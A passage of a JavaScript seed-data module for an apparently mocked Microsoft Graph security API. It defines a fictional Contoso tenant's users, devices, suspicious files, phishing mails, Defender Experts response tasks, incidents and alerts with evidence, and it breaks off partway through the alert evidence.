// @ts-check
'use strict';

// The seeded tenant: stable IDs and fixed dates, so tests, the demo and the README can name them.
// Rows are listed oldest first; Graph lists them newest first (createdDateTime descending).

const { createHash } = require('node:crypto');
const { RESPONSE_ACTION_TYPES } = require('./model');

/** Fixed clock for every seeded date; entities added at runtime default to the real "now", so they are always newer. */
const SEED_BASE_TIME = '2026-01-05T08:00:00.000Z';
/** A runHuntingQuery Timespan that covers every seeded hunting row: they are older than Graph's default 30 days. */
const SEEDED_HUNTING_TIMESPAN = '2026-01-05T00:00:00Z/P1D';
const SEED_TENANT_GUID = '4f6a2c1e-8d3b-4b7a-9c55-2e1d0f3a7b60';

const BASE_MS = Date.parse(SEED_BASE_TIME);
/** @param {number} minutes */
const at = (minutes) => new Date(BASE_MS + minutes * 60_000).toISOString();
/** @param {string} text */
const sha1 = (text) => createHash('sha1').update(text).digest('hex');
/** @param {string} text */
const sha256 = (text) => createHash('sha256').update(text).digest('hex');

/** @param {string} text a stable GUID derived from `text` */
const guid = (text) => {
	const hex = sha256(text);
	return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
};

// The story's people, machines, files and mail, referenced by tasks, alert evidence and the hunting tables.

const DOMAIN = 'contoso.com';
const DOMAIN_SID = 'S-1-5-21-2906391021-3419548923-1604813211';

/**
 * [account name, display name, department, relative ID]
 * @type {[string, string, string, number][]}
 */
const USER_ROWS = [
	['megan.bowen', 'Megan Bowen', 'Finance', 2104],
	['alex.wilber', 'Alex Wilber', 'Human Resources', 2105],
	['adele.vance', 'Adele Vance', 'Finance', 2106],
	['lidia.holloway', 'Lidia Holloway', 'Sales', 2107],
	['diego.siciliani', 'Diego Siciliani', 'Operations', 2108],
	['svc-backup', 'Backup service account', 'IT', 2109],
	['patti.fernandez', 'Patti Fernandez', 'Finance', 2110],
	['lynne.robbins', 'Lynne Robbins', 'Finance', 2111],
	['johanna.lorenz', 'Johanna Lorenz', 'Engineering', 2112],
	['grady.archie', 'Grady Archie', 'Sales', 2113],
	['svc-web', 'Web application pool account', 'IT', 2114],
];

/** @typedef {{ accountName: string, displayName: string, department: string, upn: string, objectId: string, sid: string }} StoryUser */

/** @type {Record<string, StoryUser>} by account name */
const USERS = Object.fromEntries(
	USER_ROWS.map(([accountName, displayName, department, rid]) => [
		accountName,
		{
			accountName,
			displayName,
			department,
			upn: `${accountName}@${DOMAIN}`,
			objectId: guid(`user:${accountName}`),
			sid: `${DOMAIN_SID}-${rid}`,
		},
	]),
);

/**
 * [name, OS platform, OS build, IP address, main user, device group]
 * @type {[string, string, number, string, string, string][]}
 */
const DEVICE_ROWS = [
	['WS-FIN-042', 'Windows11', 22631, '10.20.4.42', 'megan.bowen', 'Finance workstations'],
	['WS-FIN-051', 'Windows11', 22631, '10.20.4.51', 'patti.fernandez', 'Finance workstations'],
	['WS-FIN-039', 'Windows11', 22631, '10.20.4.39', 'lynne.robbins', 'Finance workstations'],
	['SRV-FILE-02', 'WindowsServer2019', 17763, '10.10.2.2', 'svc-backup', 'Servers'],
	['SRV-SQL-07', 'WindowsServer2022', 20348, '10.10.1.7', 'svc-backup', 'Servers'],
	['SRV-SQL-08', 'WindowsServer2022', 20348, '10.10.1.8', 'svc-backup', 'Servers'],
	['LT-HR-113', 'Windows11', 22631, '10.30.6.113', 'alex.wilber', 'Laptops'],
	['LT-EXEC-003', 'Windows11', 22631, '10.30.1.3', 'adele.vance', 'Laptops'],
	['WS-DEV-201', 'Windows11', 22631, '10.40.2.201', 'johanna.lorenz', 'Engineering workstations'],
	['SRV-WEB-12', 'WindowsServer2022', 20348, '10.10.3.12', 'svc-web', 'Servers'],
	['WS-OPS-088', 'Windows10', 19045, '10.50.1.88', 'diego.siciliani', 'Operations workstations'],
	['LT-SALES-019', 'Windows11', 22631, '10.60.1.19', 'lidia.holloway', 'Laptops'],
	['LT-SALES-022', 'Windows11', 22631, '10.60.1.22', 'grady.archie', 'Laptops'],
];

/** @typedef {{ name: string, deviceId: string, aadDeviceId: string, osPlatform: string, osBuild: number, ipAddress: string, user: string, group: string }} StoryDevice */

/** @type {Record<string, StoryDevice>} by device name; the ID has the shape of a Defender for Endpoint device ID */
const DEVICES = Object.fromEntries(
	DEVICE_ROWS.map(([name, osPlatform, osBuild, ipAddress, user, group]) => [
		name,
		{
			name,
			deviceId: sha1(`device:${name}`),
			aadDeviceId: guid(`aad-device:${name}`),
			osPlatform,
			osBuild,
			ipAddress,
			user,
			group,
		},
	]),
);

/**
 * [file name, folder, device it was found on, size in bytes]
 * @type {[string, string, string, number][]}
 */
const FILE_ROWS = [
	['svcupdate.exe', 'C:\\ProgramData\\Microsoft\\svcupdate', 'WS-FIN-042', 1849344],
	['invoice_0412.pdf.exe', 'D:\\Shares\\Finance\\Invoices', 'SRV-FILE-02', 734208],
	['payroll_update.js', 'D:\\Shares\\Finance\\Payroll', 'SRV-FILE-02', 18244],
	['PresenokerSetup.exe', 'C:\\Users\\Public\\Downloads', 'SRV-SQL-07', 3311616],
	['procdump64.exe', 'C:\\Windows\\Temp', 'LT-EXEC-003', 424856],
	['svchost32.exe', 'C:\\Users\\johanna.lorenz\\AppData\\Roaming', 'WS-DEV-201', 2457600],
	['devtools-helper.dll', 'C:\\Users\\johanna.lorenz\\AppData\\Local\\Temp', 'WS-DEV-201', 96768],
];

/** @typedef {{ name: string, folderPath: string, device: string, size: number, sha1: string, sha256: string }} StoryFile */

/** @type {Record<string, StoryFile>} by file name */
const FILES = Object.fromEntries(
	FILE_ROWS.map(([name, folderPath, device, size]) => [
		name,
		{ name, folderPath, device, size, sha1: sha1(name), sha256: sha256(name) },
	]),
);

/**
 * [subject, sender, recipient account, received (minutes after base)]
 * @type {[string, string, string, number][]}
 */
const MAIL_ROWS = [
	['Updated payment instructions', 'accounts@contoso-payroll.net', 'megan.bowen', 262],
	['Shared document: Q4 bonus plan', 'noreply@docs-share-contoso.com', 'lidia.holloway', 624],
	['Action required: payroll portal update', 'lidia.holloway@contoso.com', 'grady.archie', 640],
	['Your mailbox is almost full', 'lidia.holloway@contoso.com', 'grady.archie', 646],
];

/** @typedef {{ subject: string, sender: string, recipient: string, receivedMinutes: number, networkMessageId: string }} StoryMail */

/** @type {Record<string, StoryMail>} by subject */
const MAILS = Object.fromEntries(
	MAIL_ROWS.map(([subject, sender, recipient, receivedMinutes]) => [
		subject,
		{ subject, sender, recipient, receivedMinutes, networkMessageId: guid(`mail:${subject}`) },
	]),
);

/** @param {string} upn */
const userByUpn = (upn) => USERS[upn.split('@')[0]];

/** @type {Record<string, (t: { name: string }) => { displayName: string, description: string }>} */
const TEMPLATES = {
	isolateDevice: (t) => ({
		displayName: `Isolate device ${t.name}`,
		description: `Defender Experts observed hands-on-keyboard activity on ${t.name}. Isolate the device from the network while the investigation continues.`,
	}),
	unIsolateDevice: (t) => ({
		displayName: `Release device ${t.name} from isolation`,
		description: `Remediation on ${t.name} is complete. Release the device from network isolation.`,
	}),
	restrictAppExecution: (t) => ({
		displayName: `Restrict app execution on ${t.name}`,
		description: `Unsigned binaries were launched from a user-writable folder on ${t.name}. Allow only Microsoft-signed applications to run.`,
	}),
	unRestrictAppExecution: (t) => ({
		displayName: `Remove app execution restriction on ${t.name}`,
		description: `The threat on ${t.name} is contained. Lift the application execution restriction.`,
	}),
	runAntiVirusScan: (t) => ({
		displayName: `Run antivirus scan on ${t.name}`,
		description: `Run a full Microsoft Defender Antivirus scan on ${t.name} to find further artifacts of the intrusion.`,
	}),
	collectInvestigationPackage: (t) => ({
		displayName: `Collect investigation package from ${t.name}`,
		description: `Collect the forensic investigation package from ${t.name} for offline analysis.`,
	}),
	stopAndQuarantineFile: (t) => ({
		displayName: `Stop and quarantine ${t.name}`,
		description: `The file ${t.name} (SHA1 ${sha1(t.name)}) was classified as malware. Stop its processes and quarantine it on every device where it was seen.`,
	}),
	submitIocRule: (t) => ({
		displayName: `Block indicator ${t.name}`,
		description: `Submit a block indicator for ${t.name}, which was used as command-and-control in this incident.`,
	}),
	text: (t) => ({
		displayName: t.name,
		description: `Manual step requested by Defender Experts: ${t.name.toLowerCase()}.`,
	}),
	forceUserPasswordReset: (t) => ({
		displayName: `Force password reset for ${t.name}`,
		description: `Credentials of ${t.name} were exposed to a phishing page. Force a password reset at next sign-in.`,
	}),
	disableUser: (t) => ({
		displayName: `Disable user ${t.name}`,
		description: `The account ${t.name} signed in from an anonymizing proxy and created inbox rules. Disable it in Active Directory and Microsoft Entra ID.`,
	}),
	enableUser: (t) => ({
		displayName: `Re-enable user ${t.name}`,
		description: `The investigation cleared ${t.name}. Re-enable the account.`,
	}),
	markUserAsCompromised: (t) => ({
		displayName: `Mark ${t.name} as compromised`,
		description: `Raise the user risk of ${t.name} to high so Conditional Access policies apply.`,
	}),
	requireSignIn: (t) => ({
		displayName: `Require ${t.name} to sign in again`,
		description: `Revoke the active sessions of ${t.name} and require a fresh sign-in.`,
	}),
	hardDeleteEmail: (t) => ({
		displayName: `Hard delete email "${t.name}"`,
		description: `Permanently delete the phishing message "${t.name}" from every mailbox that received it.`,
	}),
	softDeleteEmail: (t) => ({
		displayName: `Soft delete email "${t.name}"`,
		description: `Move the message "${t.name}" to the recipients' Recoverable Items folder.`,
	}),
	unknownFutureValue: (t) => ({
		displayName: t.name,
		description: 'A task whose action type this API version does not know yet.',
	}),
};

const DEVICE_ACTIONS = [
	'isolateDevice',
	'unIsolateDevice',
	'restrictAppExecution',
	'unRestrictAppExecution',
	'runAntiVirusScan',
	'collectInvestigationPackage',
];
const USER_ACTIONS = [
	'forceUserPasswordReset',
	'disableUser',
	'enableUser',
	'markUserAsCompromised',
	'requireSignIn',
];
const MAIL_ACTIONS = ['hardDeleteEmail', 'softDeleteEmail'];

/**
 * The task's `responseAction` as Graph types it: the device ID, file SHA1, user principal name, mail network message ID
 * or indicator in `identifierValue`; none for text and unknownFutureValue tasks.
 * @param {string} actionType
 * @param {string} target
 * @returns {Record<string, unknown> | undefined}
 */
function responseActionFor(actionType, target) {
	const odataType = RESPONSE_ACTION_TYPES[actionType];
	if (!odataType) return undefined;
	if (DEVICE_ACTIONS.includes(actionType)) {
		const { deviceId } = DEVICES[target];
		return actionType === 'isolateDevice'
			? { '@odata.type': odataType, identifierValue: deviceId, isolationType: 'full' }
			: { '@odata.type': odataType, identifierValue: deviceId };
	}
	if (actionType === 'stopAndQuarantineFile') {
		const file = FILES[target];
		return {
			'@odata.type': odataType,
			identifierValue: file.sha1,
			deviceId: DEVICES[file.device].deviceId,
		};
	}
	if (USER_ACTIONS.includes(actionType))
		return { '@odata.type': odataType, identifierValue: userByUpn(target).upn };
	if (MAIL_ACTIONS.includes(actionType))
		return { '@odata.type': odataType, identifierValue: MAILS[target].networkMessageId };
	return { '@odata.type': odataType, identifierValue: target };
}

/**
 * One seeded task: [id, actionType, status, actionStatus, outcome after execute, incidentId, target, source]
 * The target is a device name, file name, user principal name, mail subject or indicator, by action type.
 * @typedef {[string, string, string, string, string, string, string, ('guided'|'managed')?]} TaskRow
 */

/** @type {TaskRow[]} oldest first */
const TASK_ROWS = [
	// Open, notStarted, one per executable action type: execute ends `completed`.
	[
		'task-isolate-open-001',
		'isolateDevice',
		'open',
		'notStarted',
		'completed',
		'1001',
		'WS-FIN-042',
	],
	[
		'task-collect-open-001',
		'collectInvestigationPackage',
		'open',
		'notStarted',
		'completed',
		'1001',
		'WS-FIN-042',
	],
	[
		'task-avscan-open-001',
		'runAntiVirusScan',
		'open',
		'notStarted',
		'completed',
		'1001',
		'WS-FIN-042',
	],
	[
		'task-quarantine-open-001',
		'stopAndQuarantineFile',
		'open',
		'notStarted',
		'completed',
		'1002',
		'invoice_0412.pdf.exe',
	],
	[
		'task-restrict-open-001',
		'restrictAppExecution',
		'open',
		'notStarted',
		'completed',
		'1002',
		'SRV-SQL-07',
	],
	[
		'task-unrestrict-open-001',
		'unRestrictAppExecution',
		'open',
		'notStarted',
		'completed',
		'1003',
		'SRV-SQL-07',
	],
	[
		'task-unisolate-open-001',
		'unIsolateDevice',
		'open',
		'notStarted',
		'completed',
		'1003',
		'LT-HR-113',
	],
	[
		'task-ioc-open-001',
		'submitIocRule',
		'open',
		'notStarted',
		'completed',
		'1002',
		'cdn-update-check.net',
		'managed',
	],
	// Already started or closed.
	[
		'task-isolate-inprogress-001',
		'isolateDevice',
		'inProgress',
		'inProgress',
		'inProgress',
		'1001',
		'WS-FIN-051',
	],
	[
		'task-isolate-completed-001',
		'isolateDevice',
		'completed',
		'completed',
		'completed',
		'1001',
		'WS-FIN-039',
	],
	[
		'task-restrict-notrelevant-001',
		'restrictAppExecution',
		'notRelevant',
		'notStarted',
		'completed',
		'1003',
		'SRV-SQL-08',
	],
	[
		'task-avscan-failed-001',
		'runAntiVirusScan',
		'failed',
		'failed',
		'failed',
		'1002',
		'SRV-FILE-02',
		'managed',
	],
	[
		'task-quarantine-partiallycompleted-001',
		'stopAndQuarantineFile',
		'inProgress',
		'partiallyCompleted',
		'partiallyCompleted',
		'1002',
		'payroll_update.js',
	],
	// Open, notStarted, but execute does not end `completed`.
	[
		'task-avscan-fails-001',
		'runAntiVirusScan',
		'open',
		'notStarted',
		'failed',
		'1004',
		'LT-EXEC-003',
	],
	[
		'task-quarantine-partial-001',
		'stopAndQuarantineFile',
		'open',
		'notStarted',
		'partiallyCompleted',
		'1005',
		'svchost32.exe',
	],
	[
		'task-collect-stuck-001',
		'collectInvestigationPackage',
		'open',
		'notStarted',
		'inProgress',
		'1006',
		'SRV-WEB-12',
	],
	// The nine action types executeResponseAction refuses, open.
	[
		'task-text-open-001',
		'text',
		'open',
		'notStarted',
		'completed',
		'1001',
		'Confirm with the device owner that WS-FIN-042 can be reimaged',
	],
	[
		'task-pwreset-open-001',
		'forceUserPasswordReset',
		'open',
		'notStarted',
		'completed',
		'1004',
		'megan.bowen@contoso.com',
	],
	[
		'task-disableuser-open-001',
		'disableUser',
		'open',
		'notStarted',
		'completed',
		'1004',
		'alex.wilber@contoso.com',
	],
	[
		'task-markcompromised-open-001',
		'markUserAsCompromised',
		'open',
		'notStarted',
		'completed',
		'1008',
		'lidia.holloway@contoso.com',
		'managed',
	],
	[
		'task-requiresignin-open-001',
		'requireSignIn',
		'open',
		'notStarted',
		'completed',
		'1008',
		'lidia.holloway@contoso.com',
	],
	[
		'task-harddelete-open-001',
		'hardDeleteEmail',
		'open',
		'notStarted',
		'completed',
		'1008',
		'Action required: payroll portal update',
	],
	[
		'task-softdelete-open-001',
		'softDeleteEmail',
		'open',
		'notStarted',
		'completed',
		'1008',
		'Your mailbox is almost full',
	],
	[
		'task-enableuser-open-001',
		'enableUser',
		'open',
		'notStarted',
		'completed',
		'1007',
		'diego.siciliani@contoso.com',
	],
	[
		'task-unknown-open-001',
		'unknownFutureValue',
		'open',
		'notStarted',
		'completed',
		'1007',
		'Follow-up action added by a newer service version',
	],
	// More open executable tasks, so paging with $top=10 spans several pages.
	[
		'task-isolate-open-002',
		'isolateDevice',
		'open',
		'notStarted',
		'completed',
		'1004',
		'LT-HR-113',
	],
	[
		'task-avscan-open-002',
		'runAntiVirusScan',
		'open',
		'notStarted',
		'completed',
		'1004',
		'LT-HR-113',
	],
	[
		'task-isolate-open-003',
		'isolateDevice',
		'open',
		'notStarted',
		'completed',
		'1005',
		'WS-DEV-201',
		'managed',
	],
	[
		'task-avscan-open-003',
		'runAntiVirusScan',
		'open',
		'notStarted',
		'completed',
		'1005',
		'WS-DEV-201',
	],
	[
		'task-quarantine-open-002',
		'stopAndQuarantineFile',
		'open',
		'notStarted',
		'completed',
		'1005',
		'devtools-helper.dll',
	],
	['task-ioc-open-002', 'submitIocRule', 'open', 'notStarted', 'completed', '1006', '203.0.113.77'],
	[
		'task-collect-open-002',
		'collectInvestigationPackage',
		'open',
		'notStarted',
		'completed',
		'1006',
		'SRV-WEB-12',
	],
	[
		'task-restrict-open-002',
		'restrictAppExecution',
		'open',
		'notStarted',
		'completed',
		'1006',
		'SRV-WEB-12',
	],
	[
		'task-unisolate-open-002',
		'unIsolateDevice',
		'open',
		'notStarted',
		'completed',
		'1007',
		'WS-OPS-088',
	],
	[
		'task-unrestrict-open-002',
		'unRestrictAppExecution',
		'open',
		'notStarted',
		'completed',
		'1007',
		'WS-OPS-088',
	],
	// Non-executable tasks in other states.
	[
		'task-text-open-002',
		'text',
		'open',
		'notStarted',
		'completed',
		'1006',
		'Check the web server logs for further exploitation attempts',
	],
	[
		'task-text-completed-001',
		'text',
		'completed',
		'completed',
		'completed',
		'1003',
		'Confirm the unwanted software was removed from SRV-SQL-07',
	],
	[
		'task-pwreset-completed-001',
		'forceUserPasswordReset',
		'completed',
		'completed',
		'completed',
		'1004',
		'adele.vance@contoso.com',
	],
	[
		'task-disableuser-notrelevant-001',
		'disableUser',
		'notRelevant',
		'notStarted',
		'completed',
		'1007',
		'svc-backup@contoso.com',
	],
	[
		'task-softdelete-inprogress-001',
		'softDeleteEmail',
		'inProgress',
		'inProgress',
		'inProgress',
		'1008',
		'Shared document: Q4 bonus plan',
		'managed',
	],
	// Newest.
	[
		'task-unisolate-completed-001',
		'unIsolateDevice',
		'completed',
		'completed',
		'completed',
		'1008',
		'LT-SALES-019',
	],
	[
		'task-avscan-inprogress-001',
		'runAntiVirusScan',
		'inProgress',
		'inProgress',
		'inProgress',
		'1008',
		'LT-SALES-019',
	],
	[
		'task-isolate-open-004',
		'isolateDevice',
		'open',
		'notStarted',
		'completed',
		'1008',
		'LT-SALES-019',
	],
	[
		'task-avscan-open-004',
		'runAntiVirusScan',
		'open',
		'notStarted',
		'completed',
		'1008',
		'LT-SALES-022',
	],
];

const TASK_SPACING_MINUTES = 17;
const TASKS_START_MINUTES = 45;
const EXPERTS = 'Microsoft Defender Experts';

/**
 * @param {TaskRow} row
 * @param {number} index
 */
function buildTask(row, index) {
	const [id, actionType, status, actionStatus, , incidentId, target, source] = row;
	const { displayName, description } = TEMPLATES[actionType]({ name: target });
	const createdMinutes = TASKS_START_MINUTES + index * TASK_SPACING_MINUTES;
	const touched = status !== 'open' || actionStatus !== 'notStarted';
	/** @type {Record<string, unknown>} */
	const task = {
		id,
		displayName,
		description,
		actionType,
		actionStatus,
		status,
		source:
			source === 'managed' ? 'defenderExpertsManagedResponse' : 'defenderExpertsGuidedResponse',
		createdDateTime: at(createdMinutes),
		lastModifiedDateTime: at(createdMinutes + (touched ? 11 : 0)),
		createdByDisplayName: EXPERTS,
		lastModifiedByDisplayName: touched ? 'Nestor Wilke' : EXPERTS,
		incidentId,
	};
	const responseAction = responseActionFor(actionType, target);
	if (responseAction) task.responseAction = responseAction;
	return task;
}

/** @type {ReadonlyArray<Record<string, unknown>>} Graph-shaped incident tasks, oldest first. */
const SEED_TASKS = deepFreeze(TASK_ROWS.map(buildTask));

/** @type {Readonly<Record<string, string>>} Where each seeded task's actionStatus ends after a successful execute. */
const SEED_TASK_OUTCOMES = Object.freeze(
	Object.fromEntries(TASK_ROWS.map((row) => [row[0], row[4]])),
);

/** @type {Readonly<Record<string, string>>} The incident each seeded task belongs to (Graph's `incident` relationship). */
const SEED_TASK_INCIDENTS = Object.freeze(
	Object.fromEntries(TASK_ROWS.map((row) => [row[0], row[5]])),
);

/** Task IDs tests and the demo rely on, by role. */
const SEEDED_TASK_IDS = deepFreeze({
	openByActionType: {
		collectInvestigationPackage: 'task-collect-open-001',
		isolateDevice: 'task-isolate-open-001',
		unRestrictAppExecution: 'task-unrestrict-open-001',
		unIsolateDevice: 'task-unisolate-open-001',
		restrictAppExecution: 'task-restrict-open-001',
		runAntiVirusScan: 'task-avscan-open-001',
		stopAndQuarantineFile: 'task-quarantine-open-001',
		submitIocRule: 'task-ioc-open-001',
	},
	nonExecutableByActionType: {
		text: 'task-text-open-001',
		forceUserPasswordReset: 'task-pwreset-open-001',
		disableUser: 'task-disableuser-open-001',
		markUserAsCompromised: 'task-markcompromised-open-001',
		requireSignIn: 'task-requiresignin-open-001',
		hardDeleteEmail: 'task-harddelete-open-001',
		softDeleteEmail: 'task-softdelete-open-001',
		enableUser: 'task-enableuser-open-001',
		unknownFutureValue: 'task-unknown-open-001',
	},
	endsFailed: 'task-avscan-fails-001',
	endsPartiallyCompleted: 'task-quarantine-partial-001',
	neverCompletes: 'task-collect-stuck-001',
	inProgress: 'task-isolate-inprogress-001',
	completed: 'task-isolate-completed-001',
	notRelevant: 'task-restrict-notrelevant-001',
	failed: 'task-avscan-failed-001',
	partiallyCompleted: 'task-quarantine-partiallycompleted-001',
});

/**
 * [id, severity, status, displayName, created (minutes after base), last update (minutes after base), assignedTo, classification, determination]
 * @typedef {[string, string, string, string, number, number, string | null, string, string]} IncidentRow
 */

/** @type {IncidentRow[]} */
const INCIDENT_ROWS = [
	[
		'1001',
		'high',
		'active',
		'Multi-stage incident involving Execution & Ransomware on multiple endpoints',
		0,
		600,
		'nestor.wilke@contoso.com',
		'unknown',
		'unknown',
	],
	[
		'1002',
		'medium',
		'active',
		'Suspicious file dropped and launched on multiple endpoints',
		90,
		240,
		null,
		'unknown',
		'unknown',
	],
	[
		'1003',
		'low',
		'resolved',
		'Unwanted software detected on one endpoint',
		180,
		420,
		'nestor.wilke@contoso.com',
		'truePositive',
		'unwantedSoftware',
	],
	[
		'1004',
		'high',
		'awaitingAction',
		'Credential theft campaign targeting Finance',
		270,
		900,
		null,
		'unknown',
		'unknown',
	],
	[
		'1005',
		'medium',
		'inProgress',
		'Malware detected on a developer workstation',
		360,
		480,
		'isaiah.langer@contoso.com',
		'unknown',
		'unknown',
	],
	[
		'1006',
		'informational',
		'resolved',
		'Suspicious PowerShell activity on a web server',
		450,
		510,
		'isaiah.langer@contoso.com',
		'informationalExpectedActivity',
		'securityTesting',
	],
	[
		'1007',
		'low',
		'active',
		'Anomalous sign-in followed by device activity',
		540,
		700,
		null,
		'unknown',
		'unknown',
	],
	[
		'1008',
		'high',
		'active',
		'Business email compromise with mailbox rule manipulation',
		630,
		1020,
		null,
		'unknown',
		'unknown',
	],
];

/** What analysts and Defender Experts wrote on incidents: [author, minutes after base, text] per incident. */
const INCIDENT_COMMENTS = /** @type {Record<string, [string, number, string][]>} */ ({
	1001: [
		[
			'nestor.wilke@contoso.com',
			40,
			'Ransomware confirmed on WS-FIN-042; svcupdate.exe spread over WMI to two more Finance workstations.',
		],
	],
	1003: [
		[
			'nestor.wilke@contoso.com',
			415,
			'PresenokerSetup.exe removed from SRV-SQL-07. App execution restriction can be lifted.',
		],
	],
	1004: [
		[
			'Microsoft Defender Experts',
			880,
			'Credential dumping on LT-EXEC-003 and a phishing click by megan.bowen. Guided response tasks are waiting for your action.',
		],
	],
});

/** Incident descriptions Defender Experts wrote; the others have none. */
const INCIDENT_DESCRIPTIONS = /** @type {Record<string, string>} */ ({
	1004: 'A phishing mail with a fake payroll portal harvested Finance credentials; LSASS was dumped on an executive laptop. Reset the affected passwords, disable the HR account used for reconnaissance and isolate LT-HR-113.',
	1008: 'A sales mailbox was taken over after a malicious link click; inbox rules forward finance mail to an external address.',
});

/** @param {IncidentRow} row */
function buildIncident(row) {
	const [
		id,
		severity,
		status,
		displayName,
		created,
		updated,
		assignedTo,
		classification,
		determination,
	] = row;
	return {
		id,
		tenantId: SEED_TENANT_GUID,
		status,
		incidentWebUrl: `https://security.microsoft.com/incidents/${id}?tid=${SEED_TENANT_GUID}`,
		redirectIncidentId: null,
		displayName,
		createdDateTime: at(created),
		lastUpdateDateTime: at(updated),
		assignedTo,
		classification,
		determination,
		severity,
		priorityScore: { high: 80, medium: 50, low: 20, informational: 5 }[severity] ?? null,
		customTags: [],
		systemTags: status === 'resolved' ? [] : ['Defender Experts'],
		description: INCIDENT_DESCRIPTIONS[id] ?? null,
		lastModifiedBy: assignedTo ?? 'Microsoft 365 Defender',
		resolvingComment: status === 'resolved' ? 'Resolved after remediation was confirmed.' : null,
		summary: null,
		comments: (INCIDENT_COMMENTS[id] ?? []).map(([createdByDisplayName, minutes, comment]) => ({
			comment,
			createdByDisplayName,
			createdDateTime: at(minutes),
		})),
	};
}

/** @type {ReadonlyArray<Record<string, unknown>>} */
const SEED_INCIDENTS = deepFreeze(INCIDENT_ROWS.map(buildIncident));

/**
 * [id, incidentId, severity, status, serviceSource, detectionSource, category, title, created (minutes after base), last update (minutes after base), MITRE techniques]
 * @typedef {[string, string, string, string, string, string, string, string, number, number, string[]]} AlertRow
 */

/** @type {AlertRow[]} */
const ALERT_ROWS = [
	[
		'alert-1001-01',
		'1001',
		'high',
		'inProgress',
		'microsoftDefenderForEndpoint',
		'microsoftDefenderForEndpoint',
		'Execution',
		"Suspicious 'PowerShell' encoded command",
		0,
		120,
		['T1059.001', 'T1027'],
	],
	[
		'alert-1001-02',
		'1001',
		'high',
		'new',
		'microsoftDefenderForEndpoint',
		'antivirus',
		'Ransomware',
		'Ransomware behavior detected in the file system',
		12,
		600,
		['T1486', 'T1490'],
	],
	[
		'alert-1002-01',
		'1002',
		'medium',
		'new',
		'microsoftDefenderForEndpoint',
		'antivirus',
		'Malware',
		"'Trojan:Win32/Wacatac' malware was detected",
		90,
		240,
		['T1204.002'],
	],
	[
		'alert-1002-02',
		'1002',
		'medium',
		'new',
		'microsoftDefenderForEndpoint',
		'customTi',
		'CommandAndControl',
		'Connection to a custom network indicator',
		101,
		200,
		['T1071.001'],
	],
	[
		'alert-1003-01',
		'1003',
		'low',
		'resolved',
		'microsoftDefenderForEndpoint',
		'antivirus',
		'UnwantedSoftware',
		"'Presenoker' unwanted software was detected",
		180,
		420,
		[],
	],
	[
		'alert-1004-01',
		'1004',
		'high',
		'new',
		'microsoftDefenderForOffice365',
		'microsoftDefenderForOffice365',
		'InitialAccess',
		'Email messages containing malicious URL removed after delivery',
		270,
		300,
		['T1566.002'],
	],
	[
		'alert-1004-02',
		'1004',
		'medium',
		'new',
		'microsoftDefenderForIdentity',
		'microsoftDefenderForIdentity',
		'CredentialAccess',
		'Suspected credential theft activity',
		281,
		900,
		['T1110'],
	],
	[
		'alert-1004-03',
		'1004',
		'high',
		'inProgress',
		'microsoftDefenderForEndpoint',
		'microsoftDefenderForEndpoint',
		'CredentialAccess',
		'Possible credential dumping from LSASS',
		295,
		880,
		['T1003.001'],
	],
	[
		'alert-1005-01',
		'1005',
		'medium',
		'inProgress',
		'microsoftDefenderForEndpoint',
		'antivirus',
		'Malware',
		"'Lumma' malware was prevented",
		360,
		480,
		['T1555.003'],
	],
	[
		'alert-1005-02',
		'1005',
		'low',
		'new',
		'microsoftDefenderForEndpoint',
		'microsoftDefenderForEndpoint',
		'DefenseEvasion',
		'Suspicious process injection observed',
		372,
		400,
		['T1055', 'T1218.011'],
	],
	[
		'alert-1006-01',
		'1006',
		'informational',
		'resolved',
		'microsoftDefenderForEndpoint',
		'microsoftDefenderForEndpoint',
		'Execution',
		'Suspicious PowerShell command line',
		450,
		510,
		['T1059.001', 'T1105'],
	],
	[
		'alert-1007-01',
		'1007',
		'low',
		'new',
		'microsoftDefenderForCloudApps',
		'cloudAppSecurity',
		'InitialAccess',
		'Activity from an anonymous proxy',
		540,
		560,
		['T1090.003'],
	],
	[
		'alert-1007-02',
		'1007',
		'medium',
		'new',
		'microsoftDefenderForIdentity',
		'microsoftDefenderForIdentity',
		'Discovery',
		'Account enumeration reconnaissance',
		556,
		700,
		['T1087.002'],
	],
	[
		'alert-1008-01',
		'1008',
		'high',
		'new',
		'microsoftDefenderForOffice365',
		'microsoftDefenderForOffice365',
		'InitialAccess',
		'A potentially malicious URL click was detected',
		630,
		640,
		['T1566.002'],
	],
	[
		'alert-1008-02',
		'1008',
		'high',
		'new',
		'microsoftDefenderForCloudApps',
		'cloudAppSecurity',
		'Persistence',
		'Suspicious inbox manipulation rule',
		644,
		1020,
		['T1564.008'],
	],
	[
		'alert-1008-03',
		'1008',
		'medium',
		'inProgress',
		'microsoftDefenderForOffice365',
		'microsoftDefenderForOffice365',
		'Exfiltration',
		'Suspicious email forwarding activity',
		651,
		990,
		['T1114.003'],
	],
];

/** The entities each alert names: `device:`, `file:`, `user:` (account name), `ip:`, `url:` or `mail:` (subject). */
const ALERT_EVIDENCE = /** @type {Record<string, string[]>} */ ({
	'alert-1001-01': ['device:WS-FIN-042', 'user:megan.bowen', 'ip:198.51.100.45'],
	'alert-1001-02': [
		'device:WS-FIN-042',
		'device:WS-FIN-051',
		'device:WS-FIN-039',
		'file:svcupdate.exe',
	],
	'alert-1002-01': ['device:SRV-FILE-02', 'file:invoice_0412.pdf.exe', 'file:payroll_update.js'],
	'alert-1002-02': ['device:SRV-SQL-07', 'url:cdn-update-check.net', 'ip:198.51.100.23'],
	'alert-1003-01': ['device:SRV-SQL-07', 'file:PresenokerSetup.exe'],
	'alert-1004-01': [
		'user:megan.bowen',
		'mail:Updated payment instructions',
		'url:https://contoso-payroll.net/login',
	],
	'alert-1004-02': ['user:alex.wilber', 'user:megan.bowen', 'device:LT-HR-113'],
	'alert-1004-03': ['device:LT-EXEC-003', 'user:adele.vance', 'file:procdump64.exe'],
	'alert-1005-01': ['device:WS-DEV-201', 'user:johanna.lorenz', 'file:svchost32.exe'],
	'alert-1005-02': ['device:WS-DEV-201', 'file:devtools-helper.dll'],
	'alert-1006-01': ['device:SRV-WEB-12', 'ip:203.0.113.77'],
	'alert-1007-01': ['user:diego.siciliani', 'ip:192.0.2.200'],
	'alert-1007-02': ['device:WS-OPS-088', 'user:diego.siciliani'],
	'alert-1008-01': [
		'user:lidia.holloway',
		'device:LT-SALES-019',
		'url:https://docs-share-contoso.com/q4-bonus',
		'mail:Shared document: Q4 bonus plan',
	],
	'alert-1008-02': ['user:lidia.holloway', 'mail:Action required: payroll portal update'],
